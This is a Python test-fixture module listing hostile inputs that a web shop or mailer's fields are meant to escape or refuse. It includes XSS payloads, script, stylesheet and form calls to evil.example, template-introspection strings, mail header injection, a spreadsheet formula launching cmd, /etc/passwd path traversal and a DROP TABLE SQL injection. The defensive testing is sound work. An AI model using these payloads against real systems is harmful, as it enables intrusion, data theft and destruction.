"""What hostile hands type: each stands in every field that somebody outside can fill, and must stay a word (or be refused) on every page and in every mail."""

from __future__ import annotations

import re

MARK = "X55"
"""In all of them, to find what became of it."""

PAYLOADS: dict[str, str] = {
    "script": f"<script>alert('{MARK}')</script>",
    "script, closed before": f"</title></textarea></style><script src=//evil.example/{MARK}.js></script>",
    "script, split": f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
    "image": f"<img src=x onerror=\"alert('{MARK}')\">",
    "image, tracking": f"<img src='https://evil.example/{MARK}.gif' width=1>",
    "svg": f"<svg/onload=alert('{MARK}')><animate onbegin=alert(1) attributeName=x dur=1s>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}')>",
    "attribute, double quotes": f'" autofocus onfocus="alert(\'{MARK}\')" x="',
    "attribute, single quotes": f"' autofocus onfocus='alert(\"{MARK}\")' x='",
    "attribute, none": f"x onmouseover=alert({MARK}) style=position:fixed;inset:0",
    "style": f'"><style>@import url(//evil.example/{MARK}.css);*{{display:none}}</style>',
    "frame": f'"><iframe srcdoc="<script>parent.alert(\'{MARK}\')</script>"></iframe><base href=//evil.example/>',
    "form": f'</form><form action="https://evil.example/{MARK}"><input name=t><button>Send',
    "comment": f"<!--{MARK}--><![CDATA[<script>alert(1)</script>]]><!--[if mso]>",
    "entities": f"&lt;script&gt;alert(&quot;{MARK}&quot;)&lt;/script&gt;&#60;b&#62;&bogus;",
    "javascript url": f"javascript:alert('{MARK}')//https://evil.example",
    "data url": f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={MARK}",
    "template": f"{{{{7*7}}}}{{% for x in range(9) %}}{MARK}{{% endfor %}}{{# x #}}${{7*7}}<%= 7*7 %>",
    "template, walking": f"{{{{ self.__init__.__globals__ }}}}{{{{ shop.brand.__class__.__mro__ }}}}{MARK}",
    "placeholders": f"{{name}} {{0}} %s %(name)s {{{{ name }}}} {MARK}",
    "header": f"{MARK}\r\nBcc: all@evil.example\r\nSubject: forged\r\n\r\n<b>body</b>",
    "header, line feed alone": f"{MARK}\nCc: all@evil.example\nReply-To: thief@evil.example",
    "header, odd separators": f"{MARK}\u2028Bcc: all@evil.example\u2029\x85X: y\x0bZ: z\x0c",
    "encoded word": f"=?utf-8?b?DQpCY2M6IGFsbEBldmlsLmV4YW1wbGU=?= =?utf-8?q?=0D=0ABcc:_x?= {MARK}",
    "quoted-printable": f"{MARK}=0D=0ABcc:=20all@evil.example=\n=3Cscript=3E",
    "boundary": f"\r\n--=_courtesy_alternative\r\nContent-Type: text/html\r\n\r\n<h1>{MARK}</h1>\r\n--=_courtesy_alternative--\r\n.\r\n",
    "footer": f"{MARK}\n\n\n--\nYou get this because you won.\n\nStop mail like this:\nhttps://evil.example/stop",
    "turned round": f"\u202egpj.{MARK}\u2066abc\u2069\u200f\u202d",
    "nothing to see": f"\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f{MARK}\u3164\u2800",
    "combining marks": MARK + "".join("Z" + "\u0300\u0301\u0489\u033f\u035c" * 8 for _ in range(6)),
    "a very long word": MARK + "W" * 700,
    "null and bell": f"{MARK}\x00\x07\x08\x1b",
    "terminal": f"\x1b[2J\x1b[31m{MARK}\x1b]0;owned\x07\x9b5m",
    "emoji": f"👩\u200d👩\u200d👧\u200d👦🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f👋🏿{MARK}",
    "formula": f'=cmd|" /C calc"!A0,{MARK}',
    "formula, others": f"@SUM(1+1)*{MARK}\t+1-1",
    "normalisation": f"ﬁ①Å\u212b\u1e9b\u0323 \uff1cscript\uff1e{MARK}\uff1c/script\uff1e",
    "half a pair": f"{MARK}\ud800 \udfff",
    "paths": f"../../../../etc/passwd%00{MARK}/..%2f..%5c",
    "query": f"' OR 1=1; DROP TABLE item; -- {MARK}",
}


def shape(text: str) -> str:
    """How it lies on the page, whatever it says: its lines, and which of them are empty."""
    return re.sub(r"[^\n]*\S[^\n]*", "a", text.replace("\r\n", "\n").replace("\r", "\n"))


def twins(text: str) -> tuple[str, ...]:
    """Harmless texts that lie on a page as it does, or are refused for what it may be refused for."""
    return (shape(text), "a", "a@b.example", "https://a.example", "a" * 2500, "a" * 150, "", "\x00", "\udfff")
